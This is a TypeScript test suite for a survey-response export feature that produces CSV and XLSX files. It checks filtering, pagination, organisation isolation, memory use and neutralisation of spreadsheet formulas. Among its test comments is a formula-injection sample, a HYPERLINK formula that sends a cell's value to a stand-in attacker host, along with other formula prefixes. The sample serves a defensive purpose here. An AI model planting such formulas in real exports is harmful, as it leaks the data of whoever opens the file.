import { PassThrough } from "node:stream";
import v8 from "node:v8";
import vm from "node:vm";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { createTranslator } from "@/i18n/translate";
import { classifyScore, npsFromScores, toApiStats } from "@/lib/nps";
import { neutralizeCell } from "@/lib/spreadsheet-safety";
import { readAnalyticsParams } from "@/schemas/analytics";
import { exportResponses } from "@/server/analytics/export-responses";
import { resolveFilter, type AnalyticsFilter } from "@/server/analytics/filter";
import { getHeadline } from "@/server/analytics/get-headline";
import { db } from "@/server/db";
import { zipBacklog } from "@/server/export/write-xlsx";
import { createSurvey } from "@/server/surveys/create-survey";
import { insertResponses } from "./support/responses";
import { createOrganization } from "./support/fixtures";
import { seededRandom } from "@/lib/random";


async function readAll(stream: ReadableStream<Uint8Array>): Promise<Buffer> {
  const reader = stream.getReader();
  const chunks: Uint8Array[] = [];
  for (;;) {
    const { value, done } = await reader.read();
    if (done) break;
    chunks.push(value);
  }
  return Buffer.concat(chunks);
}

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
const TZ = "Asia/Shanghai";
const NOW = new Date("2026-06-30T12:00:00Z");
/** Local (UTC+8, no DST) wall time of an instant, as the export prints it. */
const localMinute = (d: Date) => new Date(d.getTime() + 8 * 3600_000).toISOString().slice(0, 16).replace("T", " ");
const localDay = (d: Date) => localMinute(d).slice(0, 10);
const en = createTranslator("en");
const zh = createTranslator("zh-CN");

type Raw = {
  surveyId: string;
  score: number | null;
  comment: string | null;
  excluded: boolean;
  channel: "EMAIL" | "LINK" | "QR";
  touchpoint: string | null;
  locale: string;
  contactId: string | null;
  attributes: Record<string, string | number>;
  createdAt: Date;
};

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';
const SPECIAL_COMMENTS = [
  HYPERLINK,
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "＝1+1",
  "\t=1+1",
  "服务很好，办理速度快，但是排队时间有点长。",
  'Multi-line, with "quotes", commas\nand a second line',
  "-5",
];

describe("exportResponses", () => {
  let organizationId: string;
  let otherOrganizationId: string;
  const surveys: { id: string; name: string }[] = [];
  const rows: Raw[] = [];
  const emails = new Map<string, string | null>();

  const filterFor = (params: Record<string, string | string[]>): AnalyticsFilter => {
    const parsed = readAnalyticsParams(params);
    if (!parsed.success) throw new Error(parsed.error.message);
    return resolveFilter(parsed.data, { organizationId, timeZone: TZ }, NOW);
  };

  /** The raw rows an export of `filter` must contain, in export order (oldest first). */
  const expectedRows = (keep: (r: Raw) => boolean, from = "2000-01-01", to = "2026-06-30") =>
    rows
      .filter((r) => !r.excluded && localDay(r.createdAt) >= from && localDay(r.createdAt) <= to && keep(r))
      .sort((a, b) => a.createdAt.getTime() - b.createdAt.getTime());

  /** An order-independent fingerprint of a row: time, survey, score, comment. */
  const fingerprint = (time: unknown, survey: unknown, score: unknown, comment: unknown) =>
    JSON.stringify([time, survey, score === "" || score === null || score === undefined ? null : Number(score), comment ?? ""]);
  const rawFingerprint = (r: Raw) =>
    fingerprint(
      localMinute(r.createdAt),
      surveys.find((s) => s.id === r.surveyId)?.name,
      r.score,
      r.comment === null ? "" : neutralizeCell(r.comment),
    );

  async function csvOf(filter: AnalyticsFilter, locale: "en" | "zh-CN" = "en", batchSize?: number) {
    const bytes = await readAll(await exportResponses({ filter, format: "csv", locale, batchSize, now: NOW }));
    const records = parse(bytes, { bom: true, relax_column_count: false }) as string[][];
    return { bytes, header: records[0] ?? [], body: records.slice(1) };
  }

  async function xlsxOf(filter: AnalyticsFilter, locale: "en" | "zh-CN" = "zh-CN") {
    const bytes = await readAll(await exportResponses({ filter, format: "xlsx", locale, now: NOW }));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    return { bytes, workbook };
  }

  beforeAll(async () => {
    const org = await createOrganization("Export");
    organizationId = org.id;
    otherOrganizationId = (await createOrganization("Export other")).id;
    for (const name of ["关系型 NPS 2026", "Onboarding"]) {
      const survey = await createSurvey({ organizationId, userId: null, input: { name, brandName: "示例银行" } });
      surveys.push({ id: survey.id, name });
    }
    const contacts: string[] = [];
    for (let i = 0; i < 6; i += 1) {
      const erased = i === 5;
      const contact = await db.contact.create({
        data: {
          organizationId,
          email: erased ? null : `customer${i}@example.com`,
          erasedAt: erased ? new Date("2026-05-01T00:00:00Z") : null,
          attributes: {},
        },
      });
      contacts.push(contact.id);
      emails.set(contact.id, contact.email);
    }

    const random = seededRandom(11);
    const regions = ["华东", "华北", "西南"];
    for (let i = 0; i < 700; i += 1) {
      const day = Math.floor(random() * 180);
      const createdAt = new Date(Date.UTC(2026, 0, 1 + day, random() < 0.5 ? 15 : 16, Math.floor(random() * 60), 0));
      const attributes: Record<string, string | number> = { region: regions[Math.floor(random() * regions.length)] as string };
      if (random() < 0.5) attributes.tier = random() < 0.5 ? "金卡" : "普卡";
      if (random() < 0.3) attributes.tenure = Math.floor(random() * 20) - 2;
      rows.push({
        surveyId: (surveys[i % 2] as { id: string }).id,
        score: random() < 0.06 ? null : Math.min(10, Math.floor(random() * 12)),
        comment: random() < 0.3 ? (SPECIAL_COMMENTS[i % SPECIAL_COMMENTS.length] as string) : random() < 0.5 ? null : `评论 ${i}`,
        excluded: random() < 0.04,
        channel: random() < 0.6 ? "EMAIL" : random() < 0.5 ? "LINK" : "QR",
        touchpoint: random() < 0.5 ? "开户" : null,
        locale: random() < 0.8 ? "zh-CN" : "en",
        contactId: random() < 0.7 ? (contacts[Math.floor(random() * contacts.length)] as string) : null,
        attributes,
        createdAt,
      });
    }
    // Ties on createdAt across a batch boundary: keyset pagination must break them by id.
    for (let i = 0; i < 15; i += 1) {
      rows.push({
        surveyId: (surveys[0] as { id: string }).id,
        score: i % 11,
        comment: `同一时刻 ${i}`,
        excluded: false,
        channel: "EMAIL",
        touchpoint: null,
        locale: "zh-CN",
        contactId: null,
        attributes: { region: "华东" },
        createdAt: new Date("2026-04-01T02:00:00Z"),
      });
    }
    // An attribute key only an excluded row carries: it must not become a column.
    rows.push({
      surveyId: (surveys[0] as { id: string }).id,
      score: 5,
      comment: "excluded",
      excluded: true,
      channel: "EMAIL",
      touchpoint: null,
      locale: "zh-CN",
      contactId: null,
      attributes: { region: "华东", onlyExcluded: "x" },
      createdAt: new Date("2026-04-02T02:00:00Z"),
    });
    await insertResponses(rows.map((r) => ({ ...r, organizationId, category: r.score === null ? null : classifyScore(r.score) })));
    const otherSurvey = await createSurvey({ organizationId: otherOrganizationId, userId: null, input: { name: "Other org survey", brandName: "Y" } });
    await insertResponses(rows.slice(0, 200).map((r) => ({
        ...r,
        contactId: null,
        comment: "OTHER-ORGANISATION",
        organizationId: otherOrganizationId,
        surveyId: otherSurvey.id,
        attributes: { ...r.attributes, otherOrgKey: "y" },
        category: r.score === null ? null : classifyScore(r.score),
      })));
  });

  it("CSV: UTF-8 with BOM, CRLF line ends, translated header, attribute columns of the filtered rows", async () => {
    const { bytes, header, body } = await csvOf(filterFor({ range: "all" }));
    expect(bytes.subarray(0, 3).equals(BOM)).toBe(true);
    const text = bytes.toString("utf8");
    expect(text.endsWith("\r\n")).toBe(true);
    // Every line break outside quoted fields is CRLF: the multi-line comment keeps its own "\n" inside quotes.
    const lines = text.split("\r\n");
    expect(lines.length - 1).toBeGreaterThan(body.length);
    expect(header).toEqual([...["Responded at", "Survey", "Score (0–10)", "Category", "Comment", "Language", "Channel", "Touchpoint", "Contact email"], "Region", "Tenure (years)", "Tier"]);
    expect(body.length).toBe(expectedRows(() => true).length);
  });

  it("CSV rows equal the filtered raw rows: times in the organisation's zone, scores, categories, emails, attributes", async () => {
    const { body } = await csvOf(filterFor({ range: "all" }));
    const expected = expectedRows(() => true);
    expect(body.map((c) => fingerprint(c[0], c[1], c[2], c[4])).sort()).toEqual(expected.map(rawFingerprint).sort());
    // Oldest first.
    const times = body.map((c) => c[0] ?? "");
    expect([...times].sort()).toEqual(times);
    for (const cells of body) {
      const score = cells[2] === "" ? null : Number(cells[2]);
      expect(cells[3]).toBe(score === null ? "" : en(`export.category.${classifyScore(score)}`));
      expect(["Email", "Link", "QR code"]).toContain(cells[6]);
      expect(["", "开户"]).toContain(cells[7]);
    }
    const emailsInFile = new Set(body.map((c) => c[8]));
    expect(emailsInFile).toEqual(new Set(["", ...[...emails.values()].filter((e): e is string => e !== null)]));
    const tenures = body.map((c) => c[10]).filter((v) => v !== "");
    expect(tenures.length).toBeGreaterThan(0);
    expect(tenures.every((v) => /^-?\d+$/.test(v ?? ""))).toBe(true);
    expect(tenures.some((v) => v?.startsWith("-"))).toBe(true); // numeric -2 / -1 stay plain numbers
  });

  it("never contains another organisation's rows or attribute keys", async () => {
    const { bytes, header } = await csvOf(filterFor({ range: "all" }));
    expect(bytes.toString("utf8")).not.toContain("OTHER-ORGANISATION");
    expect(bytes.toString("utf8")).not.toContain("Other org survey");
    expect(header).not.toContain("otherOrgKey");
    expect(header).not.toContain("onlyExcluded");
  });

  it("neutralises formula cells and keeps Chinese text and multi-line comments intact", async () => {
    const { body } = await csvOf(filterFor({ range: "all" }));
    const comments = new Set(body.map((c) => c[4]));
    expect(comments).toContain(`'${HYPERLINK}`);
    expect(comments).not.toContain(HYPERLINK);
    for (const value of ["+1+1", "-2+3", "@SUM(1,1)", "＝1+1", "\t=1+1"]) {
      expect(comments).toContain(`'${value}`);
      expect(comments).not.toContain(value);
    }
    expect(comments).toContain("-5");
    expect(comments).toContain("服务很好，办理速度快，但是排队时间有点长。");
    expect(comments).toContain('Multi-line, with "quotes", commas\nand a second line');
    for (const cells of body) for (const cell of cells) expect(cell).not.toMatch(/^[=+@＝＋－＠\t\r]|^-(?!\d+$)/u);
  });

  it("honours the attribute, channel, touchpoint, survey and date-range filters", async () => {
    const cases: [Record<string, string | string[]>, (r: Raw) => boolean, string?, string?][] = [
      [{ range: "all", "attr.region": "华东" }, (r) => r.attributes.region === "华东"],
      [{ range: "all", "attr.region": ["华北", "西南"], channel: "LINK" }, (r) => ["华北", "西南"].includes(String(r.attributes.region)) && r.channel === "LINK"],
      [{ range: "all", touchpoint: "开户", survey: (surveys[1] as { id: string }).id }, (r) => r.touchpoint === "开户" && r.surveyId === surveys[1]?.id],
      [{ range: "custom", from: "2026-03-01", to: "2026-03-31" }, () => true, "2026-03-01", "2026-03-31"],
      [{ range: "custom", from: "2026-02-14", to: "2026-02-14", "attr.tier": "金卡" }, (r) => r.attributes.tier === "金卡", "2026-02-14", "2026-02-14"],
    ];
    for (const [params, keep, from, to] of cases) {
      const { body, header } = await csvOf(filterFor(params));
      const expected = expectedRows(keep, from, to);
      expect(body.length, JSON.stringify(params)).toBe(expected.length);
      expect(body.map((c) => fingerprint(c[0], c[1], c[2], c[4])).sort()).toEqual(expected.map(rawFingerprint).sort());
      const regionColumn = header.indexOf("Region");
      if (params["attr.region"] === "华东") expect(body.every((c) => c[regionColumn] === "华东")).toBe(true);
      if (from && to) expect(body.every((c) => (c[0] ?? "").slice(0, 10) >= from && (c[0] ?? "").slice(0, 10) <= to)).toBe(true);
    }
    // Attribute columns are the keys of the filtered rows only.
    const narrow = await csvOf(filterFor({ range: "custom", from: "2026-04-01", to: "2026-04-01" }));
    const keys = new Set(expectedRows(() => true, "2026-04-01", "2026-04-01").flatMap((r) => Object.keys(r.attributes)));
    const labels: Record<string, string> = { region: "Region", tenure: "Tenure (years)", tier: "Tier" };
    expect(narrow.header.slice(9)).toEqual([...keys].sort().map((key) => labels[key] ?? key));
  });

  it("gives the same rows whatever the batch size (keyset pagination, ties on createdAt included)", async () => {
    const filter = filterFor({ range: "all" });
    const whole = await csvOf(filter, "en", 100_000);
    for (const batchSize of [7, 16, 2_000]) {
      const paged = await csvOf(filter, "en", batchSize);
      expect(paged.body, `batch size ${batchSize}`).toEqual(whole.body);
    }
    expect(whole.body.filter((c) => c[4]?.startsWith("同一时刻")).length).toBe(15);
  });

  it("an empty selection is a header-only file", async () => {
    const { body, header, bytes } = await csvOf(filterFor({ range: "custom", from: "2020-01-01", to: "2020-01-31" }), "zh-CN");
    expect(body).toEqual([]);
    expect(header.slice(0, 4)).toEqual(["回复时间", "问卷", "评分 (0–10)", "类别"]);
    expect(bytes.subarray(0, 3).equals(BOM)).toBe(true);
  });

  it("XLSX: the same rows, numeric scores, a bold frozen header, and a summary equal to the dashboard's figures", async () => {
    const filter = filterFor({ range: "all", "attr.region": "华东" });
    const { workbook } = await xlsxOf(filter, "zh-CN");
    expect(workbook.worksheets.map((w) => w.name)).toEqual(["回复明细", "汇总"]);
    const sheet = workbook.getWorksheet("回复明细");
    if (!sheet) throw new Error("no data sheet");
    const header = sheet.getRow(1);
    expect(header.getCell(1).value).toBe("回复时间");
    expect(header.getCell(4).value).toBe("类别");
    expect(header.getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });

    const headerValues = (header.values as unknown[]).slice(1);
    const regionColumn = headerValues.indexOf("区域") + 1;
    const body: unknown[][] = [];
    sheet.eachRow((row, number) => {
      if (number > 1) body.push(Array.from({ length: headerValues.length }, (_, i) => row.getCell(i + 1).value));
    });
    const expected = expectedRows((r) => r.attributes.region === "华东");
    expect(body.length).toBe(expected.length);
    expect(body.every((cells) => cells[regionColumn - 1] === "华东")).toBe(true);
    expect(body.map((c) => fingerprint(c[0], c[1], c[2], c[4])).sort()).toEqual(expected.map(rawFingerprint).sort());
    const scores = body.map((cells) => cells[2]);
    expect(scores.every((s) => s === null || typeof s === "number")).toBe(true);
    expect(body.map((cells) => cells[3]).filter((v) => v !== null)).toEqual(
      scores.filter((s): s is number => typeof s === "number").map((s) => zh(`export.category.${classifyScore(s)}`)),
    );
    expect(body.some((cells) => cells[4] === `'${HYPERLINK}`)).toBe(true);
    expect(body.some((cells) => cells[4] === HYPERLINK)).toBe(false);

    // The CSV of the same filter has the same cells.
    const csv = await csvOf(filter, "zh-CN");
    expect(body.map((cells) => cells.map((v) => (v === null ? "" : String(v))))).toEqual(csv.body);

    const summary = workbook.getWorksheet("汇总");
    if (!summary) throw new Error("no summary sheet");
    const figures = new Map<unknown, unknown>();
    summary.eachRow((row) => figures.set(row.getCell(1).value, row.getCell(2).value));
    const expectedStats = toApiStats(npsFromScores(scores.map((s) => (typeof s === "number" ? s : null))));
    expect(figures.get(zh("export.summary.n"))).toBe(expectedStats.n);
    expect(figures.get(zh("export.summary.promoters"))).toBe(expectedStats.promoters);
    expect(figures.get(zh("export.summary.passives"))).toBe(expectedStats.passives);
    expect(figures.get(zh("export.summary.detractors"))).toBe(expectedStats.detractors);
    expect(figures.get(zh("export.summary.nps"))).toBe(expectedStats.nps);
    expect(figures.get(zh("export.summary.ciLow"))).toBe(expectedStats.ciLow);
    expect(figures.get(zh("export.summary.ciHigh"))).toBe(expectedStats.ciHigh);
    expect(figures.get(zh("export.summary.mean"))).toBe(expectedStats.mean);
    expect(figures.get(zh("export.summary.rows"))).toBe(expected.length);
    expect(figures.get(zh("export.summary.filters"))).toBe("region: 华东");
    // … which are the dashboard's figures (the rollup) for the same filter.
    expect(expectedStats).toEqual(toApiStats((await getHeadline(filter)).stats));
  });

  it("cancelling the download stops the export without an error", async () => {
    const stream = await exportResponses({ filter: filterFor({ range: "all" }), format: "xlsx", locale: "en", batchSize: 10 });
    const reader = stream.getReader();
    const first = await reader.read();
    expect(first.done).toBe(false);
    await reader.cancel();
    const csv = await exportResponses({ filter: filterFor({ range: "all" }), format: "csv", locale: "en", batchSize: 10 });
    const csvReader = csv.getReader();
    await csvReader.read();
    await csvReader.cancel();
    // The connection pool is still usable.
    expect(await db.response.count({ where: { organizationId } })).toBe(rows.length);
  });

  it("can see the zip backlog of a streaming worksheet (the XLSX writer's backpressure depends on it)", async () => {
    const output = new PassThrough();
    const workbook = new ExcelJS.stream.xlsx.WorkbookWriter({ stream: output });
    const sheet = workbook.addWorksheet("probe");
    for (let i = 0; i < 5_000; i += 1) sheet.addRow([`row ${i} `.repeat(20), i]).commit();
    // Written synchronously: the compressor had no turn yet, so the data waits in front of it.
    expect(zipBacklog(sheet)).toBeGreaterThan(256 * 1024);
    output.resume();
    sheet.commit();
    await workbook.commit();
    expect(zipBacklog(sheet)).toBe(0);
  });
});

describe("exportResponses memory", () => {
  const ROWS = 50_000;
  let filter: AnalyticsFilter;

  beforeAll(async () => {
    const org = await createOrganization("Export memory");
    const survey = await createSurvey({ organizationId: org.id, userId: null, input: { name: "Memory", brandName: "M" } });
    // ~1,000-character comments: holding the rows (or the file) in memory would take far more than the limit.
    await db.$executeRaw`
      INSERT INTO "Response" ("id", "organizationId", "surveyId", "score", "category", "comment", "locale", "channel", "attributes", "createdAt", "updatedAt")
      SELECT gen_random_uuid(), ${org.id}::uuid, ${survey.id}::uuid, s,
             (CASE WHEN s >= 9 THEN 'PROMOTER' WHEN s >= 7 THEN 'PASSIVE' ELSE 'DETRACTOR' END)::"NpsCategory",
             repeat('服务很好，办理速度快，排队时间有点长。', 50) || g, 'zh-CN', 'EMAIL',
             jsonb_build_object('region', (ARRAY['华东','华北','西南'])[1 + g % 3], 'branch', 'branch-' || (g % 97)),
             timestamptz '2026-01-01 00:00:00+08' + g * interval '1 minute', now()
      FROM (SELECT g, (g * 7919) % 11 AS s FROM generate_series(1, ${ROWS}::int) g) t`;
    filter = resolveFilter({ range: "all", survey: [], channel: [], touchpoint: [], attributes: {} }, { organizationId: org.id, timeZone: TZ }, NOW);
  }, 120_000);

  /**
   * Streams an export to nowhere and measures what it keeps alive: every 100 ms a full garbage collection,
   * then the heap plus Buffers. Garbage that merely waits for the collector is not what this test is about.
   */
  async function measure(format: "csv" | "xlsx") {
    v8.setFlagsFromString("--expose-gc");
    const gc = vm.runInNewContext("gc") as () => void;
    const live = () => {
      gc();
      const m = process.memoryUsage();
      return m.heapUsed + m.arrayBuffers;
    };
    const baseline = live();
    let peak = baseline;
    let samples = 0;
    let lastSample = performance.now();
    let bytes = 0;
    const reader = (await exportResponses({ filter, format, locale: "zh-CN" })).getReader();
    for (;;) {
      const { value, done } = await reader.read();
      if (done) break;
      bytes += value.byteLength;
      if (performance.now() - lastSample > 100) {
        peak = Math.max(peak, live());
        samples += 1;
        lastSample = performance.now();
      }
    }
    return { bytes, growth: peak - baseline, samples };
  }

  it("streams 50k long rows as CSV with flat memory", async () => {
    const { bytes, growth, samples } = await measure("csv");
    expect(samples).toBeGreaterThan(5);
    // 50k rows × ~1,000 CJK characters ≈ 150 MB of UTF-8.
    expect(bytes).toBeGreaterThan(140_000_000);
    console.log(`CSV export of ${ROWS} rows: ${(bytes / 1e6).toFixed(0)} MB written, peak heap growth ${(growth / 1e6).toFixed(1)} MB`);
    expect(growth).toBeLessThan(100 * 1024 * 1024);
    expect(growth).toBeLessThan(bytes / 3);
  }, 180_000);

  it("streams 50k long rows as XLSX with flat memory", async () => {
    const { bytes, growth, samples } = await measure("xlsx");
    expect(samples).toBeGreaterThan(5);
    console.log(`XLSX export of ${ROWS} rows: ${(bytes / 1e6).toFixed(1)} MB written, peak heap growth ${(growth / 1e6).toFixed(1)} MB`);
    expect(bytes).toBeGreaterThan(1_000_000);
    // The uncompressed sheet XML is ≈ 150 MB: it must never be held.
    expect(growth).toBeLessThan(100 * 1024 * 1024);
  }, 180_000);
});
